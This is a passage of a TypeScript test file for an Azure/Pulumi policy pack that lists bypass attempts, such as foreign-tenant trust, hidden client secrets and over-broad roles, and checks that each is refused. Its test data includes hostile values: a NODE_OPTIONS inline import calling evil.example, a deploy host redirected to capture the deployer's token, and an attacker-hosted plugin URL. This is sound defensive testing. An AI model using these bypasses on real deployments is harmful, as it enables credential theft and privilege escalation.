/**
 * The bypass corpus: every way found to get a secret, a foreign trust or weaker hardening past the pack, each added to
 * this project's own compliant stack (the real program under the offline mocks, plus compliant CI-bootstrap resources)
 * and each refused by the rule that owns it, with a message naming the resource. The first block is issue 17's list of
 * shapes that once printed ✅; the second is what attacking the pack itself turned up.
 */
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { evaluateRecorded } from "../../policy/offline";
import { ALLOWED_TYPES, GITHUB_ISSUER, rules } from "../../policy/rules";
import { AzureAdSetting } from "../../contract/settings";
import { type RegisteredResource, SUBSCRIPTION_ID, T, guidFrom } from "../../offline/azure-mocks";
import { PACK_CONTEXT, bootstrapLike, handMade, planMainStack } from "../support/policy";
import { REPO } from "../support/repo";

let mainStack: RegisteredResource[];
beforeAll(async () => {
  mainStack = await planMainStack({ telemetry: "true" });
});

const compliant = (): RegisteredResource[] => structuredClone([...mainStack, ...bootstrapLike()]);
const one = (rs: RegisteredResource[], type: string, name?: string) =>
  rs.find((r) => r.type === type && (name === undefined || r.name === name))!;
const appIdentity = (rs: RegisteredResource[]) => one(rs, T.uami, "secretless-identity-uami");
const site = (rs: RegisteredResource[]) => one(rs, T.site);
const group = (rs: RegisteredResource[]) => site(rs).inputs.resourceGroupName as string;
const edit = (r: RegisteredResource, change: (p: Record<string, any>) => void) => {
  change(r.inputs);
  change(r.state);
};
const addSetting = (rs: RegisteredResource[], name: string, value: string) =>
  edit(site(rs), (p) => (p.siteConfig.appSettings = [...p.siteConfig.appSettings, { name, value }]));
const ENTRA_SECRET = "abc8Q~AbCdEfGhIjKlMnOpQrStUvWxYz01234567"; // the shape, made up: 3 chars, a digit, Q~, 34 more
const OTHER_TENANT = "11111111-2222-4333-8444-555555555555";
const roleId = (guid: string) =>
  `/subscriptions/${SUBSCRIPTION_ID}/providers/Microsoft.Authorization/roleDefinitions/${guid}`;
const OWNER = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635";
/** The stack's command running `deploy/<script>.ts`. */
const deployStep = (rs: RegisteredResource[], script: string) =>
  rs.find((r) => r.type === T.command && r.inputs.create === `node --import tsx deploy/${script}.ts`)!;
/** The same ARM ID in a subscription this stack does not deploy into. */
const otherSubscription = (id: string) => id.replace(SUBSCRIPTION_ID, "99999999-2222-4333-8444-555555555555");

interface Shape {
  shape: string;
  add(rs: RegisteredResource[]): void;
  /** Each rule that must refuse it, with a message that names the resource. */
  refusedBy: [rule: string, message: RegExp][];
}

const fromIssue: Shape[] = [
  {
    shape: "a FIC on the app's own managed identity trusting an outside repository's pull requests",
    add: (rs) =>
      rs.push(
        handMade("azure-native:managedidentity:FederatedIdentityCredential", "mi-github", {
          resourceGroupName: group(rs),
          resourceName: appIdentity(rs).state.name,
          issuer: GITHUB_ISSUER,
          subject: "repo:attacker/fork:pull_request",
          audiences: ["api://AzureADTokenExchange"],
        }),
      ),
    refusedBy: [
      [
        "fic-trust-allowed",
        new RegExp(
          String.raw`FederatedIdentityCredential "mi-github" lets .*"repo:attacker\/fork:pull_request" act as ` +
            "identity " +
            String.raw`"secretless-identity-uami\w+", which a web app wears`,
        ),
      ],
    ],
  },
  {
    shape: "a FIC on the app's own managed identity trusting a managed identity of a foreign tenant",
    add: (rs) =>
      rs.push(
        handMade("azure-native:managedidentity:FederatedIdentityCredential", "mi-foreign", {
          resourceGroupName: group(rs),
          resourceName: appIdentity(rs).state.name,
          issuer: `https://login.microsoftonline.com/${OTHER_TENANT}/v2.0`,
          subject: guidFrom("foreign"),
          audiences: ["api://AzureADTokenExchange"],
        }),
      ),
    refusedBy: [
      [
        "fic-trust-allowed",
        new RegExp(
          String.raw`FederatedIdentityCredential "mi-foreign" lets .* act as identity "secretless-identity-uami\w+", ` +
            "which a web app wears",
        ),
      ],
    ],
  },
  {
    shape: "the app registration's FIC trusting the identity's principal ID under a foreign tenant's issuer",
    add: (rs) => edit(one(rs, T.fic), (p) => (p.issuer = `https://login.microsoftonline.com/${OTHER_TENANT}/v2.0`)),
    refusedBy: [
      [
        "fic-trust-allowed",
        new RegExp(
          'ApplicationFederatedIdentityCredential "secretless-entra-fic" on ' +
            'ApplicationRegistration "secretless-entra-app" ' +
            "trusts tenant 11111111-2222-4333-8444-555555555555's issuer, but identity .* lives in tenant",
        ),
      ],
    ],
  },
  {
    shape: "App Service authentication v1 with a client secret",
    add: (rs) =>
      rs.push(
        handMade("azure-native:web:WebAppAuthSettings", "easy-auth", {
          name: site(rs).state.name,
          resourceGroupName: group(rs),
          enabled: true,
          clientId: guidFrom("x"),
          clientSecret: ENTRA_SECRET,
        }),
      ),
    refusedBy: [
      [
        "resource-type-allowed",
        new RegExp(
          'azure-native:web:WebAppAuthSettings "easy-auth" is not a ' +
            "resource type this pack allows: App Service " +
            "authentication settings v1 take a client secret",
        ),
      ],
      ["no-secret-inputs", /WebAppAuthSettings "easy-auth" has input "clientSecret" that looks like a secret/],
    ],
  },
  {
    shape:
      "a WebAppApplicationSettings resource with an Entra client secret " +
      "under an innocuous name and SourceType ClientSecret",
    add: (rs) =>
      rs.push(
        handMade("azure-native:web:WebAppApplicationSettings", "more-settings", {
          name: site(rs).state.name,
          resourceGroupName: group(rs),
          properties: {
            FEATURE_FLAGS: ENTRA_SECRET,
            [AzureAdSetting.SourceType]: "ClientSecret",
            [AzureAdSetting.ManagedIdentityClientId]: guidFrom("c"),
            [AzureAdSetting.TokenExchangeUrl]: "api://AzureADTokenExchange",
          },
        }),
      ),
    refusedBy: [
      [
        "resource-type-allowed",
        /azure-native:web:WebAppApplicationSettings "more-settings" is not a resource type this pack allows/,
      ],
      [
        "no-secret-settings",
        new RegExp(
          'WebAppApplicationSettings "more-settings" has app setting ' +
            '"FEATURE_FLAGS" that looks like a secret: ' +
            "its value looks like an Entra client secret",
        ),
      ],
      [
        "webapp-client-credentials",
        /WebAppApplicationSettings "more-settings" has AzureAd__ClientCredentials__0__SourceType "ClientSecret"/,
      ],
    ],
  },
  {
    shape: "a backup configuration whose storage URL carries a SAS",
    add: (rs) =>
      rs.push(
        handMade("azure-native:web:WebAppBackupConfiguration", "backup", {
          name: site(rs).state.name,
          resourceGroupName: group(rs),
          storageAccountUrl: "https://x.blob.core.windows.net/b?sv=2024-01-01&sr=c&sig=abcd%3D",
        }),
      ),
    refusedBy: [
      [
        "resource-type-allowed",
        new RegExp(
          'azure-native:web:WebAppBackupConfiguration "backup" is ' +
            "not a resource type this pack allows: a " +
            "backup configuration holds a storage SAS URL",
        ),
      ],
      [
        "no-secret-inputs",
        new RegExp(
          'WebAppBackupConfiguration "backup" has input ' +
            '"storageAccountUrl" that looks like a secret: its ' +
            "value looks like a SAS token",
        ),
      ],
    ],
  },
  {
    shape: "a web:Certificate with a PFX password",
    add: (rs) =>
      rs.push(
        handMade("azure-native:web:Certificate", "cert", {
          resourceGroupName: group(rs),
          pfxBlob: "MIIK",
          password: "hunter2",
        }),
      ),
    refusedBy: [
      [
        "resource-type-allowed",
        new RegExp(
          'azure-native:web:Certificate "cert" is not a resource type ' +
            "this pack allows: an App Service certificate " +
            "carries a PFX and its password",
        ),
      ],
      ["no-secret-inputs", /Certificate "cert" has input "password" that looks like a secret/],
    ],
  },
  {
    shape:
      "an ARM template deployment that turns basic auth, TLS 1.0, FTP, " +
      "remote debugging and a client secret back on",
    add: (rs) =>
      rs.push(
        handMade("azure-native:resources:Deployment", "template", {
          resourceGroupName: group(rs),
          properties: {
            mode: "Incremental",
            template: {
              resources: [
                {
                  type: "Microsoft.Web/sites/basicPublishingCredentialsPolicies",
                  name: "site/scm",
                  properties: { allow: true },
                },
                {
                  type: "Microsoft.Web/sites/config",
                  name: "site/web",
                  properties: {
                    minTlsVersion: "1.0",
                    ftpsState: "AllAllowed",
                    remoteDebuggingEnabled: true,
                    appSettings: [{ name: "AzureAd__ClientSecret", value: "x" }],
                  },
                },
              ],
            },
          },
        }),
      ),
    refusedBy: [
      [
        "resource-type-allowed",
        new RegExp(
          'azure-native:resources:Deployment "template" is not a ' +
            "resource type this pack allows: an ARM template " +
            "deployment can create or change any resource",
        ),
      ],
      [
        "no-secret-inputs",
        new RegExp(
          'Deployment "template" has input ' +
            String.raw`"properties\.template\.resources\[1\]\.properties\.appSettings\[0\]\{name: ` +
            String.raw`"AzureAd__ClientSecret"\}"`,
        ),
      ],
    ],
  },
  {
    shape: "an Owner role assignment for the app's identity on its resource group",
    add: (rs) =>
      rs.push(
        handMade("azure-native:authorization:RoleAssignment", "app-owner", {
          scope: `/subscriptions/${SUBSCRIPTION_ID}/resourceGroups/${group(rs)}`,
          principalId: appIdentity(rs).state.principalId,
          principalType: "ServicePrincipal",
          roleDefinitionId: roleId(OWNER),
        }),
      ),
    refusedBy: [
      [
        "role-assignment-allowed",
        new RegExp(
          String.raw`RoleAssignment "app-owner" gives the app's identity "secretless-identity-uami\w+" role ` +
            '"8e3af657-[^"]+", ' +
            String.raw`which it may not hold \(allowed: MonitoringMetricsPublisher, AcrPull\)`,
        ),
      ],
    ],
  },
  {
    shape: "ApplicationRedirectUris adding https://attacker.example/signin-oidc and http://localhost:8080/",
    add: (rs) =>
      rs.push(
        handMade(T.redirect, "more-redirects", {
          applicationId: one(rs, T.app).id,
          type: "Web",
          redirectUris: ["https://attacker.example/signin-oidc", "http://localhost:8080/"],
        }),
      ),
    refusedBy: [
      [
        "redirect-uris-own-host",
        new RegExp(
          'ApplicationRedirectUris "more-redirects" has redirect URI ' +
            String.raw`"https:\/\/attacker\.example\/signin-oidc" ` +
            String.raw`.*points at host "attacker\.example"`,
        ),
      ],
      [
        "redirect-uris-own-host",
        new RegExp(
          String.raw`ApplicationRedirectUris "more-redirects" has redirect URI "http:\/\/localhost:8080\/" .*uses ` +
            "http, " +
            "not https",
        ),
      ],
    ],
  },
  {
    shape: "a command.local.Command with a secret in stdin",
    add: (rs) =>
      rs.push(
        handMade("command:local:Command", "seed", {
          create: "psql",
          stdin: "Server=db;Database=app;User Id=a;Password=hunter2;",
        }),
      ),
    refusedBy: [
      [
        "no-secret-command-inputs",
        /Command "seed" has input "stdin" that looks like a secret: its value looks like a password/,
      ],
    ],
  },
  {
    shape: "a command.remote.Command with connection.password",
    add: (rs) =>
      rs.push(
        handMade("command:remote:Command", "remote", {
          create: "uptime",
          connection: { host: "10.0.0.4", user: "admin", password: "hunter2" },
        }),
      ),
    refusedBy: [
      ["resource-type-allowed", /command:remote:Command "remote" is not a resource type this pack allows/],
      ["no-secret-command-inputs", /Command "remote" has input "connection\.password" that looks like a secret/],
    ],
  },
  {
    shape: "a classic Azure Cache for Redis with public network access (and its access keys at their default, on)",
    add: (rs) =>
      rs.push(
        handMade("azure-native:redis:Redis", "classic", {
          resourceGroupName: group(rs),
          sku: { name: "Basic", family: "C", capacity: 0 },
          publicNetworkAccess: "Enabled",
          minimumTlsVersion: "1.2",
        }),
      ),
    refusedBy: [
      ["resource-type-allowed", /azure-native:redis:Redis "classic" is not a resource type this pack allows/],
      ["redis-no-access-keys", /Redis "classic" has disableAccessKeyAuthentication unset/],
    ],
  },
];

const fromAttacks: Shape[] = [
  // Command steps, second look: the script is the project's, but its environment says where the deployer's token goes.
  {
    shape: "the deploy step's Kudu host pointed at another site, which would receive the deployer's token",
    add: (rs) =>
      edit(deployStep(rs, "one-deploy"), (p) => (p.environment.DEPLOY_SCM_HOST = "evil.scm.azurewebsites.net")),
    refusedBy: [
      [
        "command-targets-own-resources",
        /Command ".*" sends the deployer's token to DEPLOY_SCM_HOST "evil\.scm\.azurewebsites\.net", not the Kudu/,
      ],
    ],
  },
  {
    shape: "NODE_OPTIONS in a deploy step's environment, loading inline code into the project's script",
    add: (rs) =>
      edit(deployStep(rs, "one-deploy"), (p) => {
        p.environment.NODE_OPTIONS = "--import=data:text/javascript,fetch('https://evil.example')";
      }),
    refusedBy: [
      ["command-runs-project-script", /Command ".*" sets environment variable "NODE_OPTIONS", which .* does not read/],
    ],
  },
  {
    shape: "an identity library setting in a deploy step's environment, sending the sign-in elsewhere",
    add: (rs) =>
      edit(deployStep(rs, "one-deploy"), (p) => (p.environment.AZURE_AUTHORITY_HOST = "https://login.evil.example")),
    refusedBy: [["command-runs-project-script", /sets environment variable "AZURE_AUTHORITY_HOST"/]],
  },
  {
    shape: "the deploy step asking for a token of another audience than the cloud's",
    add: (rs) =>
      edit(deployStep(rs, "one-deploy"), (p) => (p.environment.DEPLOY_ARM_SCOPE = "https://evil.example/.default")),
    refusedBy: [
      ["command-runs-project-script", /has DEPLOY_ARM_SCOPE "https:\/\/evil\.example\/\.default", not a cloud/],
    ],
  },
  {
    shape: "the readiness wait pointed at a host that always answers ready, faking the proof",
    add: (rs) => edit(deployStep(rs, "wait-ready"), (p) => (p.environment.READY_HOST = "always-ready.example")),
    refusedBy: [["command-targets-own-resources", /waits on READY_HOST "always-ready\.example", not a host of/]],
  },
  // Telemetry (issue 23), second look: the stack's own workspace's group and name, in a subscription the attacker owns.
  {
    shape: "the web app's platform logs sent to a same-named workspace in another subscription",
    add: (rs) => edit(one(rs, T.diagnosticSetting), (p) => (p.workspaceId = otherSubscription(String(p.workspaceId)))),
    refusedBy: [
      [
        "diagnostic-setting-own-workspace",
        /DiagnosticSetting ".*" has workspaceId "\/subscriptions\/99999999-[^"]*", not a Log Analytics workspace of/,
      ],
    ],
  },
  {
    shape: "Application Insights kept in a same-named workspace in another subscription",
    add: (rs) =>
      edit(one(rs, T.appInsights), (p) => (p.workspaceResourceId = otherSubscription(String(p.workspaceResourceId)))),
    refusedBy: [
      [
        "appinsights-workspace-based",
        /Component ".*" has workspaceResourceId "\/subscriptions\/99999999-[^"]*", not a Log Analytics workspace/,
      ],
    ],
  },
  // Container Apps (issue 21): a second container app, registry or environment slipped beside the stack's own.
  {
    shape: "a container app pulling a public image with a registry password and a system-assigned identity",
    add: (rs) =>
      rs.push(
        handMade("azure-native:app:ContainerApp", "sidecar", {
          resourceGroupName: group(rs),
          identity: { type: "SystemAssigned" },
          configuration: {
            ingress: { external: true, allowInsecure: true, targetPort: 80 },
            registries: [{ server: "docker.io", username: "me", passwordSecretRef: "hub-password" }],
            secrets: [{ name: "hub-password", value: "p" }],
          },
          template: { containers: [{ name: "c", image: "docker.io/library/nginx:latest" }] },
        }),
      ),
    refusedBy: [
      ["containerapp-https-only", /ContainerApp "sidecar" has ingress\.allowInsecure true/],
      ["containerapp-user-assigned-identity", /ContainerApp "sidecar" has identity .*SystemAssigned/],
      ["containerapp-registry-by-identity", /ContainerApp "sidecar" pulls from "docker\.io" with a user name/],
      ["containerapp-no-secrets", /ContainerApp "sidecar" declares secrets \["hub-password"\]/],
      ["containerapp-image-own-registry", /ContainerApp "sidecar" runs image "docker\.io\/library\/nginx:latest"/],
    ],
  },
  {
    shape: "a registry with its admin user on, and an environment logging to Log Analytics with the shared key",
    add: (rs) =>
      rs.push(
        handMade("azure-native:containerregistry:Registry", "spare-registry", {
          resourceGroupName: group(rs),
          sku: { name: "Basic" },
          adminUserEnabled: true,
        }),
        handMade("azure-native:app:ManagedEnvironment", "spare-env", {
          resourceGroupName: group(rs),
          appLogsConfiguration: {
            destination: "log-analytics",
            logAnalyticsConfiguration: { customerId: guidFrom("ws"), sharedKey: "a2V5" },
          },
        }),
      ),
    refusedBy: [
      ["registry-admin-off", /Registry "spare-registry" has adminUserEnabled true/],
      ["managed-environment-no-shared-key", /ManagedEnvironment "spare-env" has appLogsConfiguration\.destination/],
    ],
  },
  {
    shape: "AcrPull for the app's identity on a whole resource group, so it pulls every registry there",
    add: (rs) =>
      rs.push(
        handMade("azure-native:authorization:RoleAssignment", "pull-everything", {
          scope: `/subscriptions/${SUBSCRIPTION_ID}/resourceGroups/${group(rs)}`,
          principalId: appIdentity(rs).state.principalId,
          principalType: "ServicePrincipal",
          roleDefinitionId: roleId("7f951dda-4ed3-4680-a7ca-43fe172d538d"),
        }),
      ),
    refusedBy: [["role-assignment-allowed", /gives role AcrPull at scope .*, which is not a container registry/]],
  },
  // Telemetry (issue 23): keys, wider grants and other destinations around the Entra-only telemetry.
  {
    shape: "a second Application Insights component that still takes its instrumentation key, on no workspace",
    add: (rs) =>
      rs.push(
        handMade(T.appInsights, "keyed-insights", {
          resourceGroupName: group(rs),
          kind: "web",
          applicationType: "web",
        }),
      ),
    refusedBy: [
      ["appinsights-entra-only", /^Component "keyed-insights" has disableLocalAuth unset/],
      ["appinsights-workspace-based", /^Component "keyed-insights" has workspaceResourceId unset/],
    ],
  },
  {
    shape: "a shared access signature smuggled into the connection string the pack lets through by name",
    add: (rs) =>
      edit(site(rs), (p) => {
        for (const s of p.siteConfig.appSettings as { name: string; value: string }[])
          if (s.name === "APPLICATIONINSIGHTS_CONNECTION_STRING") s.value += ";SharedAccessSignature=sv=1&sig=abc";
      }),
    refusedBy: [
      [
        "no-secret-settings",
        /^WebApp "secretless-web-site" has app setting "APPLICATIONINSIGHTS_CONNECTION_STRING" that looks like a/,
      ],
    ],
  },
  {
    shape: "a lower-case duplicate of the connection string naming a component outside the stack",
    add: (rs) =>
      addSetting(
        rs,
        "applicationinsights_connection_string",
        `InstrumentationKey=${guidFrom("outside")};IngestionEndpoint=https://westeurope-5.in.applicationinsights.` +
          "azure.com/",
      ),
    refusedBy: [
      ["no-secret-settings", /has app setting "applicationinsights_connection_string" that looks like a secret/],
      [
        "appinsights-connection-string-entra-only",
        /"applicationinsights_connection_string" with the instrumentation key of a component that is not in this/,
      ],
    ],
  },
  {
    shape: "Monitoring Metrics Publisher for the app's identity on the whole subscription",
    add: (rs) =>
      rs.push(
        handMade(T.azureRole, "publisher-everywhere", {
          scope: `/subscriptions/${SUBSCRIPTION_ID}`,
          principalId: appIdentity(rs).state.principalId,
          principalType: "ServicePrincipal",
          roleDefinitionId: roleId("3913510d-42f4-4e42-8a64-420c390055eb"),
        }),
      ),
    refusedBy: [
      ["role-assignment-scope", /^RoleAssignment "publisher-everywhere" has scope/],
      ["role-assignment-allowed", /gives role MonitoringMetricsPublisher at scope .*, which is not an Application/],
    ],
  },
  {
    shape: "Monitoring Metrics Publisher on a look-alike component: same name, another resource group",
    add: (rs) => {
      const component = one(rs, T.appInsights);
      rs.push(
        handMade(T.azureRole, "publisher-lookalike", {
          scope: String(component.id).replace(/resourceGroups\/[^/]+/, "resourceGroups/rg-attacker"),
          principalId: appIdentity(rs).state.principalId,
          principalType: "ServicePrincipal",
          roleDefinitionId: roleId("3913510d-42f4-4e42-8a64-420c390055eb"),
        }),
      );
    },
    refusedBy: [
      [
        "role-assignment-allowed",
        /^RoleAssignment "publisher-lookalike" gives role MonitoringMetricsPublisher at scope/,
      ],
      ["role-assignment-allowed", /is scoped to resource group "rg-attacker", which this stack neither creates/],
    ],
  },
  {
    shape: "the site's logs also streamed to an event hub, whose authorization rule is a shared key",
    add: (rs) =>
      rs.push(
        handMade(T.diagnosticSetting, "logs-to-hub", {
          resourceUri: site(rs).id,
          eventHubAuthorizationRuleId:
            `/subscriptions/${SUBSCRIPTION_ID}/resourceGroups/rg-x/providers/Microsoft.EventHub/namespaces/ns/` +
            "authorizationRules/RootManageSharedAccessKey",
          logs: [{ category: "AppServiceHTTPLogs", enabled: true }],
        }),
      ),
    refusedBy: [
      ["diagnostic-setting-own-workspace", /^DiagnosticSetting "logs-to-hub" has eventHubAuthorizationRuleId /],
      ["diagnostic-setting-own-workspace", /^DiagnosticSetting "logs-to-hub" has workspaceId unset, not a Log/],
    ],
  },
  {
    shape: "a client secret setting spelled in lower case (azuread__clientsecret)",
    add: (rs) => addSetting(rs, "azuread__clientsecret", "n0t-a-real-one"),
    refusedBy: [
      [
        "no-secret-settings",
        new RegExp(
          'WebApp "secretless-web-site" has app setting ' +
            '"azuread__clientsecret" that looks like a secret: its ' +
            'name contains "secret"',
        ),
      ],
    ],
  },
  {
    shape: "the credential source type switched through a lower-case duplicate key",
    add: (rs) => addSetting(rs, "azuread__clientcredentials__0__sourcetype", "ClientSecret"),
    refusedBy: [
      [
        "webapp-client-credentials",
        new RegExp(
          'WebApp "secretless-web-site" has ' +
            "AzureAd__ClientCredentials__0__SourceType " +
            '"SignedAssertionFromManagedIdentity" ' +
            'and "ClientSecret"',
        ),
      ],
    ],
  },
  {
    shape: "a second credential group (index 01) taken from Key Vault by certificate",
    add: (rs) => {
      addSetting(rs, "AzureAd:ClientCredentials:01:SourceType", "KeyVault");
      addSetting(rs, "AzureAd__ClientCredentials__1__KeyVaultCertificateName", "signing");
    },
    refusedBy: [
      [
        "webapp-client-credentials",
        /WebApp "secretless-web-site" has AzureAd__ClientCredentials__1__SourceType "KeyVault"/,
      ],
      [
        "webapp-client-credentials",
        new RegExp(
          'WebApp "secretless-web-site" has ' +
            "AzureAd__ClientCredentials__1__KeyVaultCertificateName: " +
            "only " +
            "SourceType, ManagedIdentityClientId, TokenExchangeUrl",
        ),
      ],
    ],
  },
  {
    shape: "an Entra client secret's value under an innocuous setting name on the web app",
    add: (rs) => addSetting(rs, "THEME", ENTRA_SECRET),
    refusedBy: [
      [
        "no-secret-settings",
        /app setting "THEME" that looks like a secret: its value looks like an Entra client secret/,
      ],
    ],
  },
  {
    shape: "a Redis connection string with password= (StackExchange.Redis, comma-separated)",
    add: (rs) => addSetting(rs, "Cache__Configuration", "cache.redis.example:6380,password=hunter2,ssl=True"),
    refusedBy: [
      [
        "no-secret-settings",
        /app setting "Cache__Configuration" that looks like a secret: its value looks like a password/,
      ],
    ],
  },
  {
    shape: "a GitHub token in an app setting",
    add: (rs) => addSetting(rs, "UPSTREAM", `ghp_${"a1B2".repeat(9)}`),
    refusedBy: [
      ["no-secret-settings", /app setting "UPSTREAM" that looks like a secret: its value looks like a GitHub token/],
    ],
  },
  {
    shape: "a storage key nested in the web app's azureStorageAccounts mount",
    add: (rs) =>
      edit(
        site(rs),
        (p) =>
          (p.siteConfig.azureStorageAccounts = {
            data: { type: "AzureBlob", accountName: "x", shareName: "s", accessKey: "abc==" },
          }),
      ),
    refusedBy: [
      [
        "no-secret-inputs",
        new RegExp(
          String.raw`WebApp "secretless-web-site" has input "siteConfig\.azureStorageAccounts\.data\.accessKey" that ` +
            'looks like a secret: its name ends in "key"',
        ),
      ],
    ],
  },
  {
    shape: "a slot with a client-secret credential source",
    add: (rs) => {
      const slot = structuredClone(site(rs));
      rs.push({ ...slot, type: "azure-native:web:WebAppSlot", name: "staging" });
      edit(
        rs.at(-1)!,
        (p) =>
          (p.siteConfig.appSettings = p.siteConfig.appSettings.map((s: { name: string; value: string }) =>
            s.name === AzureAdSetting.SourceType ? { ...s, value: "ClientSecret" } : s,
          )),
      );
    },
    // Slots are allow-listed now (stagingSlot); every web app rule still applies to one.
    refusedBy: [
      [
        "webapp-client-credentials",
        /WebAppSlot "staging" has AzureAd__ClientCredentials__0__SourceType "ClientSecret"/,
      ],
    ],
  },
  {
    shape: "the GitHub token as the GitHub provider's input (what @pulumi/github does with GITHUB_TOKEN by default)",
    add: (rs) => edit(one(rs, "pulumi:providers:github"), (p) => (p.token = `ghp_${"A1".repeat(18)}`)),
    refusedBy: [
      ["provider-settings-allowed", /Provider "ci-github" \(pulumi:providers:github\) sets "token"/],
      [
        "no-secret-inputs",
        /Provider "ci-github" \(pulumi:providers:github\) has input "token" that looks like a secret/,
      ],
    ],
  },
  {
    shape: "a second deployment policy on the deploy environment admitting a feature branch",
    add: (rs) =>
      rs.push(
        handMade(
          "github:index/repositoryEnvironmentDeploymentPolicy:RepositoryEnvironmentDeploymentPolicy",
          "also-feature",
          {
            repository: "secretless-signin",
            environment: "production",
            branchPattern: "feature/*",
          },
        ),
      ),
    refusedBy: [
      [
        "github-deploy-environment-protected",
        /RepositoryEnvironmentDeploymentPolicy "also-feature" admits branch pattern "feature\/\*"/,
      ],
    ],
  },
  {
    shape: "a GitHub environment the deploy identity does not use, protected in its place",
    add: (rs) =>
      edit(one(rs, "github:index/repositoryEnvironment:RepositoryEnvironment"), (p) => (p.environment = "Production")),
    refusedBy: [
      [
        "github-deploy-environment-protected",
        /RepositoryEnvironment "ci-environment" protects environment "Production", which no CI identity/,
      ],
      [
        "github-deploy-environment-protected",
        /A CI identity trusts GitHub environment "production", which this stack does not protect/,
      ],
    ],
  },
  {
    shape: "a user assigned a Microsoft Graph application permission through an app role assignment",
    add: (rs) =>
      rs.push(
        handMade("azuread:index/appRoleAssignment:AppRoleAssignment", "graph-admin", {
          appRoleId: guidFrom("graph-role:Application.ReadWrite.All"),
          principalObjectId: guidFrom("user-1"),
          resourceObjectId: guidFrom("graph:sp-object"),
        }),
      ),
    refusedBy: [
      [
        "role-assignment-allowed",
        new RegExp(
          'AppRoleAssignment "graph-admin" assigns role "[^"]+" to ' +
            '"[^"]+", which is neither a CI identity ' +
            "of this stack nor assigned one of this stack's own app roles",
        ),
      ],
    ],
  },
  {
    shape: "the state account's soft-deleted checkpoints purgeable at once",
    add: (rs) =>
      edit(
        one(rs, "azure-native:storage:BlobServiceProperties"),
        (p) => (p.deleteRetentionPolicy = { enabled: true, days: 1, allowPermanentDelete: true }),
      ),
    refusedBy: [
      ["state-store-recoverable", /BlobServiceProperties "state-blob-service" has deleteRetentionPolicy .*at least 7/],
      ["state-store-recoverable", /allowPermanentDelete true/],
    ],
  },
  {
    shape: "a template deployment's type token in other casing and an API-version module",
    add: (rs) => rs.push(handMade("azure-native:Resources/v20240301:deployment", "cased", { resourceGroupName: "rg" })),
    refusedBy: [
      [
        "resource-type-allowed",
        new RegExp(
          String.raw`azure-native:Resources\/v20240301:deployment "cased" is not a resource type this pack allows: ` +
            "an " +
            "ARM template deployment",
        ),
      ],
    ],
  },
  {
    shape: "an allowed type's token in other casing (the engine's alias of nothing)",
    add: (rs) => rs.push({ ...structuredClone(site(rs)), type: "azure-native:Web:WebApp", name: "cased-site" }),
    refusedBy: [
      [
        "resource-type-allowed",
        new RegExp(
          String.raw`azure-native:Web:WebApp "cased-site" is not a resource type this pack allows\. It resembles the ` +
            'allowed type "azure-native:web:WebApp"',
        ),
      ],
    ],
  },
  {
    shape: "an explicit azuread provider signing in with a client secret",
    add: (rs) =>
      rs.push(
        handMade("pulumi:providers:azuread", "graph-admin", {
          tenantId: guidFrom("t"),
          clientId: guidFrom("c"),
          clientSecret: ENTRA_SECRET,
        }),
      ),
    refusedBy: [
      [
        "provider-settings-allowed",
        new RegExp(
          String.raw`Provider "graph-admin" \(pulumi:providers:azuread\) sets "clientSecret", which is not an ` +
            "allowed " +
            "provider setting",
        ),
      ],
      [
        "no-secret-inputs",
        new RegExp(
          String.raw`Provider "graph-admin" \(pulumi:providers:azuread\) has input "clientSecret" that looks like a ` +
            "secret",
        ),
      ],
    ],
  },
  {
    shape: "an explicit azure-native provider with a client secret and a certificate password",
    add: (rs) =>
      rs.push(
        handMade("pulumi:providers:azure-native", "arm-admin", {
          clientId: guidFrom("c"),
          clientSecret: "s3cr3t",
          clientCertificatePassword: "p",
        }),
      ),
    refusedBy: [
      ["provider-settings-allowed", /Provider "arm-admin" \(pulumi:providers:azure-native\) sets "clientSecret"/],
      [
        "provider-settings-allowed",
        /Provider "arm-admin" \(pulumi:providers:azure-native\) sets "clientCertificatePassword"/,
      ],
    ],
  },
  {
    shape: "a provider whose plugin comes from an attacker's download URL",
    add: (rs) =>
      rs.push(
        handMade("pulumi:providers:command", "evil-plugin", {
          version: "1.0.0",
          pluginDownloadURL: "https://attacker.example/plugins",
        }),
      ),
    refusedBy: [
      ["provider-settings-allowed", /Provider "evil-plugin" \(pulumi:providers:command\) sets "pluginDownloadURL"/],
    ],
  },
  {
    shape: "a provider of another package (classic azure) with its own credentials",
    add: (rs) => rs.push(handMade("pulumi:providers:azure", "classic", { clientId: guidFrom("c") })),
    refusedBy: [
      [
        "resource-type-allowed",
        new RegExp(
          'pulumi:providers:azure "classic" is not a resource type ' +
            "this pack allows: a provider of another " +
            "package",
        ),
      ],
    ],
  },
  {
    shape: "a dynamic resource (its provider's code serialized into an input)",
    add: (rs) =>
      rs.push(
        handMade("pulumi-nodejs:dynamic:Resource", "dyn", {
          __provider: "exports.handler = __f0; function __f0() { /* anything */ }",
        }),
      ),
    refusedBy: [
      [
        "resource-type-allowed",
        new RegExp(
          'pulumi-nodejs:dynamic:Resource "dyn" is not a resource ' +
            "type this pack allows: a dynamic provider " +
            "runs its own code",
        ),
      ],
    ],
  },
  {
    shape: "a StackReference reading another stack's outputs",
    add: (rs) => rs.push(handMade("pulumi:pulumi:StackReference", "prod", { name: "org/project/prod" })),
    refusedBy: [
      [
        "resource-type-allowed",
        new RegExp(
          'pulumi:pulumi:StackReference "prod" is not a resource type ' +
            "this pack allows: a stack reference reads " +
            "another stack's outputs",
        ),
      ],
    ],
  },
  {
    shape: "a FIC added to an app registration this stack does not create, trusting the app's identity",
    add: (rs) =>
      rs.push(
        handMade(T.fic, "foreign-app-fic", {
          ...one(rs, T.fic).inputs,
          applicationId: `/applications/${guidFrom("someone-elses-app")}`,
        }),
      ),
    refusedBy: [
      [
        "fic-trust-allowed",
        new RegExp(
          'ApplicationFederatedIdentityCredential "foreign-app-fic" ' +
            "adds a federated credential to application " +
            String.raw`"\/applications\/[^"]+", which this stack does not create`,
        ),
      ],
    ],
  },
  {
    shape: "a FIC added to a managed identity this stack does not create",
    add: (rs) =>
      rs.push(
        handMade("azure-native:managedidentity:FederatedIdentityCredential", "foreign-mi-fic", {
          resourceGroupName: "rg-prod",
          resourceName: "prod-identity",
          issuer: GITHUB_ISSUER,
          subject: "repo:contoso/secretless-signin:pull_request",
          audiences: ["api://AzureADTokenExchange"],
        }),
      ),
    refusedBy: [
      [
        "fic-trust-allowed",
        new RegExp(
          'FederatedIdentityCredential "foreign-mi-fic" adds a ' +
            'federated credential to identity "prod-identity" ' +
